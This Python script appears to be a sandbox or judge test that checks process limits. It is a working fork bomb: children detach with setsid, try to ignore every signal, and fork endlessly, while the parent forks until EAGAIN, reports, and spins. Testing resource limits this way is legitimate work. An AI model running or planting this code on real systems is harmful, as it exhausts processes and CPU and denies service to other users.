import contextlib
import os
import signal

from attempt import report

while True:
    try:
        child = os.fork()
    except BlockingIOError:
        break
    if not child:
        os.setsid()
        for number in range(1, 65):
            with contextlib.suppress(OSError, ValueError):
                signal.signal(number, signal.SIG_IGN)
        while True:
            with contextlib.suppress(BlockingIOError):
                os.fork()
report("start one more", "EAGAIN")
while True:
    pass
